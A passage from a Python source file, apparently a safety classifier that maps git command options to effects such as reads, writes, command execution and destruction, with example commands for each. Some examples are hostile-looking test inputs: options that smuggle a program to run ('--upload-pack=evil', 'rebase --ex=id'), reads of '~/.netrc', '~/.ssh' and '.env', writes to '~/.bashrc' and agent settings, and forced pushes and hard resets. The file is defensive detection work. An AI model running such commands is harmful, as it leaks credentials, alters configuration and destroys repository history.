        },
        examples={
            "git range-diff main topic1 topic2": "",
        },
    ),
    "add": _cmd(
        "add",
        {
            "--chmod": "val",
            "-n --dry-run -v --verbose -i --interactive -p --patch -f --force -u --update --renormalize": "flag",
            "-N --intent-to-add --ignore-removal --refresh --ignore-errors --ignore-missing --sparse": "flag",
            "--pathspec-file-nul": "flag",
            "-e --edit": "flag:unknown",
            "-A --all": "flag:tree-read=.",
            "--pathspec-from-file": "val:read",
        },
        operands="tree-read*",
        examples={
            "git add src/app.py": "tree-read:src/app.py",
            "git add -A": "tree-read:.",
            "git add .": "tree-read:.",
            "git add -p": "",
            "git add -u": "",
        },
    ),
    "commit": _cmd(
        "commit",
        {
            "--fixup": "val",
            "--allow-empty --allow-empty-message": "flag",
            "-q --quiet -v --verbose --reset-author -s --signoff -e --edit --status -a --all -i": "flag",
            "--include --interactive -p --patch -o --only -n --no-verify --dry-run --short --branch": "flag",
            "--ahead-behind --porcelain --long -z --null --amend --no-post-rewrite --pathspec-file-nul": "flag",
            "--author --date -m --message -c --reedit-message -C --reuse-message --squash --trailer": "val",
            "--cleanup": "val",
            "-S --gpg-sign -u --untracked-files": "opt",
            "-F --file": "val:read",
            "-t --template": "val:read",
            "--pathspec-from-file": "val:read",
        },
        examples={
            "git commit -m 'fix: x'": "",
            "git commit -am wip": "",
            "git commit --amend --no-edit": "",
            "git commit -F /tmp/msg.txt": "read:/tmp/msg.txt",
            "git commit --no-verify -m x": "",
        },
    ),
    "push": _cmd(
        "push",
        {
            "-v --verbose -q --quiet --all --tags -n --dry-run --porcelain --force-if-includes": "flag",
            "--thin -u --set-upstream --progress --no-verify --follow-tags --atomic -4 --ipv4 -6": "flag",
            "--ipv6": "flag",
            "--repo --recurse-submodules -o --push-option": "val",
            "--signed": "opt",
            "--mirror": "flag:destroy@force_ask",
            "-d --delete": "flag:destroy@force_ask",
            "-f --force": "flag:destroy@force_ask",
            "--force-with-lease": "opt:destroy@force_ask",
            "--receive-pack": "val:exec",
            "--exec": "val:exec",
            "--prune": "flag:destroy@force_ask",
        },
        examples={
            "git push": "",
            "git push -u origin feature": "",
            "git push --force-w origin main": "destroy",
            "git push --for origin main": "unknown",
            "git push --force-with-lease": "destroy",
            "git push -f": "destroy",
            "git push --receive-pack=/tmp/x origin": "exec:/tmp/x",
        },
    ),
    "pull": _cmd(
        "pull",
        {
            "-v --verbose -q --quiet --progress -n --stat --squash --commit --edit --ff --ff-only": "flag",
            "--verify --verify-signatures --autostash --allow-unrelated-histories --all -a --append": "flag",
            "-f --force -t --tags -p --prune --dry-run -k --keep --unshallow --update-shallow -4": "flag",
            "--ipv4 -6 --ipv6 --show-forced-updates --set-upstream": "flag",
            "--cleanup -s --strategy -X --strategy-option --depth --shallow-since --shallow-exclude": "val",
            "--deepen --refmap -o --server-option --negotiation-tip": "val",
            "--recurse-submodules -r --rebase --log --signoff -S --gpg-sign -j --jobs": "opt",
            "--upload-pack": "val:exec",
        },
        examples={
            "git pull": "",
            "git pull --rebase origin main": "",
            "git pull --upload-pack=evil": "exec:evil",
        },
    ),
    "fetch": _cmd(
        "fetch",
        {
            "-v --verbose -q --quiet --all --set-upstream -a --append --atomic -f --force -m --multiple": "flag",
            "-t --tags -n --prefetch -p --prune -P --prune-tags --dry-run --write-fetch-head -k": "flag",
            "--keep -u --update-head-ok --progress --unshallow --refetch --update-shallow -4 --ipv4": "flag",
            "-6 --ipv6 --negotiate-only --auto-maintenance --auto-gc --show-forced-updates --write-commit-graph": "flag",
            "--stdin": "flag",
            "-j --jobs --depth --shallow-since --shallow-exclude --deepen --refmap -o --server-option": "val",
            "--negotiation-tip --filter": "val",
            "--recurse-submodules": "opt",
            "--upload-pack": "val:exec",
        },
        examples={
            "git fetch --all --prune": "",
            "git fetch origin main": "",
            "git fetch --upload-pack id o": "exec:id",
        },
    ),
    "clone": _cmd(
        "clone",
        {
            "-v --verbose -q --quiet --progress --reject-shallow -n --no-checkout --bare --mirror": "flag",
            "-l --local --no-hardlinks -s --shared --dissociate --single-branch --no-tags --shallow-submodules": "flag",
            "-4 --ipv4 -6 --ipv6 --also-filter-submodules --remote-submodules --sparse": "flag",
            "-j --jobs -o --origin -b --branch --depth --shallow-since --shallow-exclude --server-option": "val",
            "--filter": "val",
            "--recurse-submodules --recursive": "opt",
            "--template": "val:load",
            "--reference": "val:read",
            "--reference-if-able": "val:read",
            "-u --upload-pack": "val:exec",
            "--separate-git-dir": "val:tree-write",
            "-c --config": "val",
            "--bundle-uri": "val",
        },
        operands="text tree-write?",
        examples={
            "git clone https://github.com/a/b": "",
            "git clone --depth 1 https://github.com/a/b /tmp/b": "tree-write:/tmp/b",
            "git clone --template=/tmp/t URL": "load:/tmp/t",
            "git clone -c core.hooksPath=/tmp/h URL": "",
            "git clone -u id URL": "exec:id",
        },
    ),
    "checkout": _cmd(
        "checkout",
        {
            "-l --guess --overlay -q --quiet --progress -m --merge -d --detach --overwrite-ignore": "flag",
            "--ignore-other-worktrees -2 --ours -3 --theirs -p --patch --ignore-skip-worktree-bits": "flag",
            "--pathspec-file-nul": "flag",
            "-b -B --conflict --orphan": "val",
            "--recurse-submodules -t --track": "opt",
            "-f --force": "flag:destroy@force_ask",
            "--pathspec-from-file": "val:read",
        },
        judge=_pathspec_judge,
        examples={
            "git checkout main": "",
            "git checkout -b feature/x": "",
            "git checkout -f main": "destroy",
            "git checkout other -- .claude/settings.json": "write:.claude/settings.json",
            "git checkout main src/a.py": "write:src/a.py",
            "git checkout -b x origin/x": "",
        },
    ),
    "switch": _cmd(
        "switch",
        {
            "--guess -q --quiet --progress -m --merge -d --detach --overwrite-ignore --ignore-other-worktrees": "flag",
            "-c --create -C --force-create --conflict --orphan": "val",
            "--recurse-submodules -t --track": "opt",
            "--discard-changes": "flag:destroy@force_ask",
            "-f --force": "flag:destroy@force_ask",
        },
        examples={
            "git switch -c feature": "",
            "git switch main": "",
            "git switch --disc main": "destroy",
        },
    ),
    "restore": _cmd(
        "restore",
        {
            "-S --staged -W --worktree --ignore-unmerged --overlay -q --quiet --progress -m --merge": "flag",
            "-2 --ours -3 --theirs -p --patch --ignore-skip-worktree-bits --pathspec-file-nul": "flag",
            "-s --source --conflict": "val",
            "--recurse-submodules": "opt",
            "--pathspec-from-file": "val:read",
        },
        judge=_pathspec_judge,
        examples={
            "git restore --staged src/app.py": "",
            "git restore --source=x .claude/settings.json": "write:.claude/settings.json",
            "git restore -s x -W -- a.py": "write:a.py",
        },
    ),
    "reset": _cmd(
        "reset",
        {
            "-q --quiet --no-refresh --mixed --soft -p --patch -N --intent-to-add --pathspec-file-nul": "flag",
            "--recurse-submodules": "opt",
            "--hard": "flag:destroy@force_ask",
            "--merge": "flag:destroy@force_ask",
            "--keep": "flag:destroy@force_ask",
            "--pathspec-from-file": "val:read",
        },
        examples={
            "git reset HEAD~1": "",
            "git reset --soft HEAD~1": "",
            "git reset --h": "destroy",
            "git reset --hard origin/main": "destroy",
        },
    ),
    "rebase": _cmd(
        "rebase",
        {
            "--keep-base --no-verify -q --quiet -v --verbose -n --no-stat --signoff --committer-date-is-author-date": "flag",
            "--reset-author-date --ignore-whitespace -f --force-rebase --no-ff --continue --skip": "flag",
            "--abort --quit --edit-todo --show-current-patch --apply -m --merge -i --interactive": "flag",
            "--rerere-autoupdate --autosquash --update-refs --autostash --fork-point --root --reschedule-failed-exec": "flag",
            "--reapply-cherry-picks": "flag",
            "--onto -C --whitespace --empty -s --strategy -X --strategy-option": "val",
            "-S --gpg-sign -r --rebase-merges": "opt",
            "-x --exec": "val:exec",
        },
        examples={
            "git rebase main": "",
            "git rebase -i HEAD~3": "",
            "git rebase --continue": "",
            "git rebase -x make main": "exec:make",
            "git rebase --ex=id main": "exec:id",
        },
    ),
    "merge": _cmd(
        "merge",
        {
            "-n --stat --summary --squash --commit -e --edit --ff --ff-only --rerere-autoupdate": "flag",
            "--verify-signatures -v --verbose -q --quiet --abort --quit --continue --allow-unrelated-histories": "flag",
            "--progress --autostash --overwrite-ignore --signoff --no-verify": "flag",
            "--cleanup -s --strategy -X --strategy-option -m --message --into-name": "val",
            "--log -S --gpg-sign": "opt",
            "-F --file": "val:read",
        },
        examples={
            "git merge --no-ff feature": "",
            "git merge --abort": "",
        },
    ),
    "cherry-pick": _cmd(
        "cherry-pick",
        {
            "--quit --continue --abort --skip -n --no-commit -e --edit -s --signoff --rerere-autoupdate": "flag",
            "-x --ff --allow-empty --allow-empty-message --keep-redundant-commits": "flag",
            "--cleanup -m --mainline --strategy -X --strategy-option": "val",
            "-S --gpg-sign": "opt",
        },
        examples={
            "git cherry-pick abc123": "",
            "git cherry-pick --continue": "",
        },
    ),
    "revert": _cmd(
        "revert",
        {
            "--quit --continue --abort --skip -n --no-commit -e --edit -s --signoff --rerere-autoupdate": "flag",
            "--reference": "flag",
            "--cleanup -m --mainline --strategy -X --strategy-option": "val",
            "-S --gpg-sign": "opt",
        },
        examples={
            "git revert --no-edit HEAD": "",
        },
    ),
    "branch": _cmd(
        "branch",
        {
            "-v --verbose -q --quiet --unset-upstream -r --remotes -a --all -d --delete -m --move": "flag",
            "-c --copy -l --list --show-current --create-reflog --edit-description -i --ignore-case": "flag",
            "--recurse-submodules": "flag",
            "-u --set-upstream-to --contains --no-contains --merged --no-merged --sort --points-at": "val",
            "--format": "val",
            "-t --track --color --abbrev --column": "opt",
            "-D": "flag:destroy@force_ask",
            "-M": "flag:destroy@force_ask",
            "-C": "flag:destroy@force_ask",
            "-f --force": "flag:destroy@force_ask",
        },
        examples={
            "git branch -a": "",
            "git branch --show-current": "",
            "git branch -d old": "",
            "git branch -D old": "destroy",
        },
    ),
    "tag": _cmd(
        "tag",
        {
            "-n": "opt",
            "-l --list -d --delete -v --verify -a --annotate -e --edit -s --sign -f --force --create-reflog": "flag",
            "-i --ignore-case": "flag",
            "-m --message --cleanup -u --local-user --contains --no-contains --merged --no-merged": "val",
            "--sort --points-at --format": "val",
            "--column --color": "opt",
            "-F --file": "val:read",
        },
        examples={
            "git tag -l": "",
            "git tag v1.2.0": "",
            "git tag -a v1 -m rel": "",
        },
    ),
    "config": _cmd(
        "config",
        {
            "--global --system --local --worktree --fixed-value --bool --int --bool-or-int --bool-or-str": "flag",
            "--get --get-all --get-regexp --get-urlmatch -l --list --get-color --get-colorbool": "flag>text*",
            "--path --expiry-date -z --null --name-only --includes --show-origin --show-scope": "flag",
            "--blob -t --type --default": "val",
            "-f --file": "val:write",
            "--replace-all": "flag:config",
            "--add": "flag:config",
            "--unset": "flag:config",
            "--unset-all": "flag:config",
            "--rename-section": "flag:config",
            "--remove-section": "flag:config",
            "-e --edit": "flag:config",
        },
        operands="text config?",
        examples={
            "git config user.name": "",
            "git config --get remote.origin.url": "",
            "git config --list": "",
            "git config user.email a@b.c": "config:a@b.c",
            "git config --global core.editor vim": "config:vim",
            "git config --unset core.pager": "config",
            "git config --get-urlmatch http https://x": "",
        },
    ),
    "rev-parse": _cmd(
        "rev-parse",
        {
            "--parseopt --sq-quote --keep-dashdash --stop-at-non-option --stuck-long --revs-only --no-revs --flags --no-flags": "flag",
            "--verify -q --quiet --sq --not --symbolic --symbolic-full-name --all --bisect --stdin": "flag",
            "--show-toplevel --show-cdup --show-prefix --show-superproject-working-tree --git-dir --git-common-dir": "flag",
            "--absolute-git-dir --is-inside-git-dir --is-inside-work-tree --is-bare-repository --is-shallow-repository": "flag",
            "--local-env-vars --shared-index-path --show-object-format --show-ref-format --path-format": "opt",
            "--abbrev-ref --short --branches --tags --remotes": "opt",
            "--default --prefix --glob --exclude --exclude-hidden --since --after --until --before --resolve-git-dir --git-path": "val",
            "--disambiguate": "val",
        },
        examples={
            "git rev-parse --show-toplevel": "",
            "git rev-parse --abbrev-ref HEAD": "",
            "git rev-parse HEAD": "",
        },
    ),
    "ls-files": _cmd(
        "ls-files",
        {
            "-z -t -v -f -c --cached -d --deleted -m --modified -o --others -i --ignored -s --stage": "flag",
            "-k --killed --directory --eol --empty-directory -u --unmerged --resolve-undo --exclude-standard": "flag",
            "--full-name --recurse-submodules --error-unmatch --debug --deduplicate --sparse": "flag",
            "-x --exclude --exclude-per-directory --with-tree --format": "val",
            "--abbrev": "opt",
            "-X --exclude-from": "val:read",
        },
        examples={
            "git ls-files": "",
            "git ls-files -m --others --exclude-standard": "",
        },
    ),
    "blame": _cmd(
        "blame",
        {
            "--incremental -b --root --show-stats --progress --score-debug -f --show-name -n --show-number": "flag",
            "-p --porcelain --line-porcelain -c -t -l -s -e --show-email -w --color-lines --color-by-age": "flag",
            "--minimal --reverse --first-parent": "flag",
            "--encoding --date --since": "val",
            "-M -C": "opt",
            "--ignore-rev": "val",
            "--abbrev": "opt",
            "--ignore-revs-file": "val:read",
            "-S": "val:read",
            "--contents": "val:read",
            "-L": "val",
        },
        operands="object*",
        examples={
            "git blame -L 10,20 src/app.py": "read:src/app.py",
            "git blame --contents ~/.netrc x": "read:~/.netrc read:x",
        },
    ),
    "grep": _cmd(
        "grep",
        {
            "--cached --untracked --exclude-standard --recurse-submodules -v --invert-match -i": "flag",
            "--ignore-case -w --word-regexp -a --text -I --textconv -r --recursive -E --extended-regexp": "flag",
            "-G --basic-regexp -F --fixed-strings -P --perl-regexp -n --line-number --column -h": "flag",
            "-H --full-name -l --files-with-matches --name-only -L --files-without-match -z --null": "flag",
            "-o --only-matching -c --count --break --heading -p --show-function -W --function-context": "flag",
            "--and --or --not -q --quiet --all-match": "flag",
            "--max-depth -C --context -B --before-context -A --after-context --threads -m --max-count": "val",
            "--color": "opt",
            "--no-index": "flag>read*",
            "-f": "val:read",
            "-e": "val",
            "-O --open-files-in-pager": "opt:exec",
            "--ext-grep": "flag",
        },
        judge=_grep_prints_paths,
        examples={
            "git grep -h . HEAD -- .env": "read:.env",
            "git grep id_rsa": "",
            "git grep -n TODO -- src": "read:src",
            "git grep -Oless x": "exec:less",
            "git grep --no-index x ~/.ssh": "read:x read:~/.ssh",
        },
        numeric=True,
    ),
    "clean": _cmd(
        "clean",
        {
            "-q --quiet -n --dry-run -d -x -X": "flag",
            "-e --exclude": "val",
            "-f --force": "flag:destroy@force_ask",
            "-i --interactive": "flag:destroy@force_ask",
        },
        examples={
            "git clean -n": "",
            "git clean -fdx": "destroy",
        },
    ),
    "rm": _cmd(
        "rm",
        {
            "-n --dry-run -q --quiet -f --force --ignore-unmatch --sparse --pathspec-file-nul": "flag",
            "--cached": "flag>text*",
            "-r": "flag:recursive",
            "--pathspec-from-file": "val:read",
        },
        operands="delete*",
        examples={
            "git rm -r --cached .": "recursive",
            "git rm src/old.py": "delete:src/old.py",
            "git rm --cached .env": "",
        },
    ),
    "mv": _cmd(
        "mv",
        {
            "-v --verbose -n --dry-run -f --force -k --sparse": "flag",
        },
        operands="move+ dest",
        examples={
            "git mv a.py b.py": "move:a.py dest:b.py",
        },
    ),
    "apply": _cmd(
        "apply",
        {
            "--directory": "val:tree-write",
            "--unsafe-paths": "flag:tree-write=/",
            "--no-add --stat --numstat --summary --check --index -N --intent-to-add --cached --apply": "flag",
            "-3 --3way -z --ignore-space-change --ignore-whitespace -R --reverse --unidiff-zero": "flag",
            "--reject --allow-overlap -v --verbose -q --quiet --inaccurate-eof --recount --allow-empty": "flag",
            "--exclude --include -p -C --whitespace": "val",
            "--build-fake-ancestor": "val:write",
        },
        operands="read*",
        examples={
            "git apply --stat fix.patch": "read:fix.patch",
            "git apply --check -": "read:-",
            "git apply --unsafe-paths --directory / /nonexistent.patch": "tree-write:/ tree-write:/ read:/nonexistent.patch unknown",
        },
        judge=lambda result, argv: _apply_judge(result, argv),
    ),
    "am": _cmd(
        "am",
        {
            "--resolvemsg": "val",
            "-i --interactive -3 --3way -q --quiet -s --signoff -u --utf8 -k --keep --keep-non-patch": "flag",
            "-m --message-id --keep-cr --no-keep-cr -c --scissors --ignore-space-change --ignore-whitespace": "flag",
            "--reject --continue -r --resolved --skip --abort --quit --allow-empty --committer-date-is-author-date": "flag",
            "--ignore-date --rerere-autoupdate": "flag",
            "--quoted-cr --whitespace --directory --exclude --include -C -p --patch-format --empty": "val",
            "--show-current-patch -S --gpg-sign": "opt",
        },
        operands="read*",
        examples={
            "git am 0001-x.patch": "read:0001-x.patch unknown",  # a file hookward cannot read here
            "git am --abort": "",
            "git am --continue": "",
            "git am": "unknown",
        },
        judge=lambda result, argv: _am_judge(result, argv),
    ),
    "format-patch": _cmd(
        "format-patch",
        {
            "@diff": "",
            "@rev": "",
            "-n --numbered -N --no-numbered -s --signoff --stdout --cover-letter --numbered-files": "flag",
            "--rfc -k --keep-subject --no-binary --zero-commit --ignore-if-in-upstream -p --no-stat": "flag",
            "-q --quiet --progress --force-in-body-from": "flag",
            "--suffix --start-number -v --reroll-count --filename-max-length --cover-from-description": "val",
            "--subject-prefix --add-header --to --cc --in-reply-to --signature --base --interdiff": "val",
            "--range-diff --creation-factor": "val",
            "--from --attach --inline --thread": "opt",
            "-o --output-directory": "val:tree-write",
            "--signature-file": "val:read",
            "-L": "val",
        },
        numeric=True,
        examples={
            "git format-patch -1 HEAD": "",
            "git format-patch -o /tmp/p main": "tree-write:/tmp/p",
            "git format-patch --stdout -3": "",
        },
    ),
    "archive": _cmd(
        "archive",
        {
            "--worktree-attributes -v --verbose -l --list": "flag",
            "--format --prefix --add-virtual-file --remote": "val",
            "--add-file": "val:read",
            "-o --output": "val:write",
            "--exec": "val:exec",
        },
        operands="text object*",  # the tree-ish, then the paths put in the archive (their content)
        examples={
            "git archive HEAD .env": "read:.env",
            "git archive --format=tar.gz -o /tmp/src.tgz HEAD": "write:/tmp/src.tgz",
            "git archive HEAD --add-file=~/.netrc": "read:~/.netrc",
        },
        numeric=True,
    ),
    "describe": _cmd(
        "describe",
        {
            "--contains --debug --all --tags --long --first-parent --exact-match --always": "flag",
            "--candidates --match --exclude": "val",
            "--abbrev --dirty --broken": "opt",
        },
        examples={
            "git describe --tags --always": "",
        },
    ),
    "shortlog": _cmd(
        "shortlog",
        {
            "-w": "opt",
            "@rev": "",
            "-c --committer -n --numbered -s --summary -e --email": "flag",
            "--group": "val",
        },
        numeric=True,
        examples={
            "git shortlog -sn": "",
        },
    ),
    "cat-file": _cmd(
        "cat-file",
        {
            "--path": "val",
            "-e -p -t -s --allow-unknown-type --use-mailmap --mailmap -z --batch-all-objects --buffer": "flag",
            "--follow-symlinks --unordered --textconv --filters": "flag",
            "--batch --batch-check --batch-command": "opt",
        },
        operands="object*",
        examples={
            "git cat-file -p HEAD:.env": "read:.env",
            "git cat-file -t HEAD": "read:HEAD",
        },
    ),
    "ls-tree": _cmd(
        "ls-tree",
        {
            "-d -r -t -z -l --long --name-only --name-status --object-only --full-name --full-tree": "flag",
            "--format": "val",
            "--abbrev": "opt",
        },
        examples={
            "git ls-tree -r --name-only HEAD": "",
        },
    ),
    "ls-remote": _cmd(
        "ls-remote",
        {
            "-q --quiet -t --tags -h --heads --refs --get-url --exit-code --symref": "flag",
            "--sort -o --server-option": "val",
            "--upload-pack": "val:exec",
        },
        examples={
            "git ls-remote --heads origin": "",
            "git ls-remote --upload-pack=x o": "exec:x",
        },
    ),
    "init": _cmd(
        "init",
        {
            "--bare -q --quiet": "flag",
            "-b --initial-branch --object-format": "val",
            "--shared": "opt",
            "--template": "val:load",
            "--separate-git-dir": "val:tree-write",
        },
        operands="tree-write?",
        examples={
            "git init": "",
            "git init /tmp/r": "tree-write:/tmp/r",
            "git init --template=/tmp/t": "load:/tmp/t",
        },
    ),
    "gc": _cmd(
        "gc",
        {
            "-q --quiet --cruft --aggressive --auto --force --keep-largest-pack": "flag",
            "--prune": "opt:destroy@force_ask",
        },
        examples={
            "git gc": "",
            "git gc --prune=now": "destroy:now",
        },
    ),
    "fsck": _cmd(
        "fsck",
        {
            "-v --verbose --unreachable --dangling --tags --root --cache --reflogs --full --connectivity-only": "flag",
            "--strict --lost-found --progress --name-objects": "flag",
        },
        examples={
            "git fsck --full": "",
        },
    ),
    "for-each-ref": _cmd(
        "for-each-ref",
        {
            "-s --shell -p --perl --python --tcl --ignore-case": "flag",
            "--count --format --sort --points-at --merged --no-merged --contains --no-contains": "val",
            "--color": "opt",
        },
        examples={
            "git for-each-ref --format='%(refname)' refs/heads": "",
        },
    ),
    "symbolic-ref": _cmd(
        "symbolic-ref",
        {
            "-q --quiet --short --recurse": "flag",
            "-m": "val",
            "-d --delete": "flag:destroy",
        },
        examples={
            "git symbolic-ref --short HEAD": "",
        },
    ),
    "update-ref": _cmd(
        "update-ref",
        {
            "--no-deref -z --create-reflog": "flag",
            "-m": "val",
            "-d": "flag:destroy@force_ask",
            "--stdin": "flag:destroy",
        },
        examples={
            "git update-ref refs/heads/x HEAD": "",
            "git update-ref -d refs/heads/main": "destroy",
        },
    ),
    "hash-object": _cmd(
        "hash-object",
        {
            "-w --stdin --no-filters --literally": "flag",
            "-t": "val",
            "--stdin-paths": "flag",
            "--path": "val",
        },
        operands="read*",
        examples={
            "git hash-object -w src/app.py": "read:src/app.py",
        },
    ),
    "show-ref": _cmd(
        "show-ref",
        {
            "--tags --heads --verify --head -d --dereference -q --quiet": "flag",
            "-s --hash --abbrev --exclude-existing": "opt",
        },
        examples={
            "git show-ref --heads": "",
        },
    ),
    "difftool": _cmd(
        "difftool",
        {
            "@diff": "",
            "-g --gui -d --dir-diff -y --no-prompt --symlinks --tool-help --trust-exit-code": "flag",
            "-t --tool": "val",
            "-x --extcmd": "val:exec",
            "--no-index": "flag>read*",
        },
        examples={
            "git difftool -x id HEAD": "exec:id",
            "git difftool --tool-help": "",
        },
    ),
    "help": _cmd(
        "help",
        {
            "-a --all --external-commands --aliases -m --man -w --web -i --info -v --verbose -g": "flag",
            "--guides --user-interfaces --developer-interfaces -c --config": "flag",
        },
        examples={
            "git help commit": "",
            "git help -a": "",
        },
    ),
    "version": _cmd(
        "version",
        {
            "--build-options": "flag",
        },
        examples={
            "git version": "",
        },
    ),
    "rev-list": _cmd(
        "rev-list",
        {
            "--abbrev": "opt",
            "@rev": "",
            "--sparse --no-merges --no-min-parents --no-max-parents --remove-empty --all --branches": "flag",
            "--tags --remotes --stdin --quiet --topo-order --date-order --reverse --parents --children": "flag",
            "--unpacked --no-object-names --object-names --abbrev-commit --left-right --count --bisect": "flag",
            "--bisect-vars --bisect-all": "flag",
            "--max-count --max-age --min-age --min-parents --max-parents --exclude-hidden": "val",
            "--disk-usage": "opt",
        },
        numeric=True,
        examples={
            "git rev-list --count HEAD": "",
        },
    ),
    "merge-tree": _cmd(
        "merge-tree",
        {
            "--stdin": "flag",
            "--write-tree --trivial-merge --messages --name-only -z --allow-unrelated-histories": "flag",
            "--merge-base -X --strategy-option": "val",
        },
        examples={"git merge-tree HEAD~1 HEAD master": ""},
    ),
    "verify-tag": _cmd(
        "verify-tag", {"-v --verbose --raw": "flag", "--format": "val"}, examples={"git verify-tag v1.0": ""}
    ),
    "merge-base": _cmd(
        "merge-base",
        {
            "-a --all --octopus --independent --is-ancestor --fork-point": "flag",
        },
        examples={
            "git merge-base main HEAD": "",
        },
    ),
    "name-rev": _cmd(
        "name-rev",
        {
            "--name-only --tags --all --stdin --annotate-stdin --undefined --always": "flag",
            "--refs --exclude": "val",
        },
        examples={
            "git name-rev --name-only HEAD": "",
        },
    ),
    "count-objects": _cmd(
        "count-objects",
        {
            "-v --verbose -H --human-readable": "flag",
        },
        examples={
            "git count-objects -vH": "",
        },
    ),
    "verify-commit": _cmd(
        "verify-commit",
        {
            "-v --verbose --raw": "flag",
        },
        examples={
            "git verify-commit HEAD": "",
        },
    ),
    "check-ignore": _cmd(
        "check-ignore",
        {
            "-q --quiet -v --verbose --stdin -z -n --non-matching --no-index": "flag",
        },
        examples={
            "git check-ignore -v build/": "",
        },
    ),
    "check-attr": _cmd(
        "check-attr",
        {
            "-a --all --cached --stdin -z": "flag",
        },
        examples={
            "git check-attr -a src/app.py": "",
        },
    ),
    "write-tree": _cmd(
        "write-tree",
        {
            "--prefix": "val",
            "--missing-ok": "flag",
        },
        examples={
            "git write-tree": "",
        },
    ),
    "commit-tree": _cmd(
        "commit-tree",
        {
            "-p -m": "val",
            "-S --gpg-sign": "opt",
            "-F": "val:read",
        },
        examples={
            "git commit-tree HEAD^{tree} -m x": "",
        },
    ),
    "read-tree": _cmd(
        "read-tree",
        {
            "--prefix": "val",
            "--empty -v --verbose -m --trivial --aggressive -i -n --dry-run --no-sparse-checkout": "flag",
            "--debug-unpack -q --quiet": "flag",
            "--exclude-per-directory": "val",
            "--recurse-submodules": "opt",
            "--index-output": "val:write",
            "--reset": "flag:destroy",
            "-u": "flag:destroy",
        },
        examples={
            "git read-tree HEAD": "",
        },
    ),
    "mktree": _cmd(
        "mktree",
        {
            "-z --missing --batch": "flag",
        },
        examples={
            "git mktree --missing": "",
        },
    ),
    "prune": _cmd(
        "prune",
        {
            "-n --dry-run -v --verbose --progress --exclude-promisor-objects": "flag",
            "--expire": "val",
        },
        effects="destroy",
        examples={
            "git prune -n": "destroy",
        },
    ),
    "repack": _cmd(
        "repack",
        {
            "-a -A --cruft -d -f -F -n -q --quiet -l --local -b --write-bitmap-index -i --delta-islands": "flag",
            "-k --keep-unreachable --pack-kept-objects -m --write-midx": "flag",
            "--cruft-expiration --unpack-unreachable --window --window-memory --depth --threads": "val",
            "--max-pack-size --keep-pack -g --geometric --expire-to": "val",
        },
        examples={
            "git repack -ad": "",
        },
    ),
    "stripspace": _cmd(
        "stripspace",
        {
            "-s --strip-comments -c --comment-lines": "flag",
        },
        examples={
            "git stripspace -s": "",
        },
    ),
    "interpret-trailers": _cmd(
        "interpret-trailers",
        {
            "--trim-empty --only-trailers --only-input --unfold --parse --no-divider": "flag",
            "--where --if-exists --if-missing --trailer": "val",
            "--in-place": "flag>edit*",
        },
        operands="read*",
        examples={
            "git interpret-trailers --trailer x=y msg.txt": "read:msg.txt",
            "git interpret-trailers --in-place msg.txt": "edit:msg.txt",
        },
    ),
    "stash": _STASH,
    "worktree": _WORKTREE,
    "remote": _REMOTE,
    "submodule": _SUBMODULE,
    "bisect": _BISECT,
    "notes": _NOTES,
    "sparse-checkout": _SPARSE,
    "reflog": _REFLOG,
    "bundle": _BUNDLE,
    "maintenance": _MAINTENANCE,
    "credential": _CREDENTIAL,
    "credential-store": Spec(
        "credential-store", version=VERSION, options={"--file": "val:read"}, subcommands=_CREDENTIAL_HELPER
    ),
    "credential-cache": Spec(
        "credential-cache", version=VERSION, options={"--timeout --socket": "val"}, subcommands=_CREDENTIAL_HELPER
    ),
    "filter-branch": _FILTER_BRANCH,
    "fast-import": _FAST_IMPORT,
    "send-email": _SEND_EMAIL,
    "daemon": _DAEMON,
    "instaweb": _INSTAWEB,
    "mergetool": _MERGETOOL,
    "var": _VAR,
    "lfs": _LFS,
}

GIT = Spec(
    "git",
    version=VERSION,
    options=_GLOBAL,
    subcommands=_COMMANDS,
    posix=False,
    examples={
        "git -C sub status": "cd:sub",
        "git --no-pager log -1": "",
        "git -c color.ui=always diff": "",
        "git --exec-path=/tmp/x status": "load:/tmp/x",
        "git --git-dir=/tmp/r/.git log": "load:/tmp/r/.git",
        "git -C ~ diff --output=.bashrc": "cd:~ write:~/.bashrc",
        "git -C sub archive -o /tmp/a.tar HEAD": "cd:sub write:/tmp/a.tar",
    },
)


def _with_help(spec: Spec) -> Spec:
    """`git <command> -h` and `--help` print usage at every level (`git worktree -h`); option paths follow `-C`.

    Works on the declared option texts, so no spec is compiled before a call walks it."""
    if spec.judge is None:
        spec.judge = _paths_follow_c
    raw = spec._raw_options
    if not isinstance(raw, _Options) and "-h" not in raw:  # a command group (`_cmd` adds help itself)
        words = {word for spelled in raw for word in spelled.split()}
        added: dict[str, str | Opt] = {}
        if "-h" not in words:
            added["-h"] = "flag"
        if "--help" not in words and not any(word.startswith("--h") for word in words):
            added["--help"] = "flag"  # git matches `--h` against the command's own options (`git reset --h` = `--hard`)
        if added:
            spec._raw_options = {**raw, **added}
    for sub in spec.subcommands.values():
        if sub.parent is spec:
            _with_help(sub)
    return spec


SPECS = [_with_help(GIT)]


def canonical_argv(argv: list[str]) -> list[str]:
    """git's argv with every abbreviated long option spelled out (`--h` -> `--hard`), for the floors.

    Walks the global options and the (nested) command the way `walk` does; values of options
    that take one are left as they are, and so is everything after `--`.
    """
    out = argv[:1]
    spec = GIT
    operands = 0
    i = 1
    n = len(argv)
    while i < n:
        word = argv[i]
        i += 1
        if word == "--":
            out.extend(argv[i - 1 :])
            break
        if word.startswith("--"):
            name, equals, value = word.partition("=")
            found = _lookup_long(spec, name)
            if found is None:
                out.append(word)
                continue
            canonical, opt = found
            out.append(canonical + equals + value)
            if opt.takes and not equals and not opt.optional and i < n:
                out.append(argv[i])
                i += 1
            continue
        if word.startswith("-") and len(word) > 1:
            out.append(word)
            for j, letter in enumerate(word[1:]):
                short: Opt | None = spec.shorts.get(letter)
                if short is not None and short.takes:
                    if j == len(word) - 2 and not short.optional and i < n:
                        out.append(argv[i])
                        i += 1
                    break
            continue
        out.append(word)
        sub = spec.subcommands.get(word) if spec.subcommands and not operands else None
        if sub is not None:
            spec = sub
            operands = 0
        else:
            operands += 1
    return out


# Git's credential helpers run as programs of their own (`git-credential-NAME ACTION`, the way git calls them):
# `get` reads a host on standard input and prints its username and password or token; `store` and `erase`
# change the store. (`git credential fill` is the same through git.)
_GIT_HELPER = "git 2.39 credential helpers"
GIT_CREDENTIAL_HELPER = Spec(
    "git-credential-store",
    aliases=(
        "git-credential-cache",
        "git-credential-manager",
        "git-credential-manager-core",
        "git-credential-osxkeychain",
        "git-credential-libsecret",
        "git-credential-gnome-keyring",
        "git-credential-wincred",
        "git-credential-netrc",
        "git-credential-oauth",
    ),
    version=_GIT_HELPER,
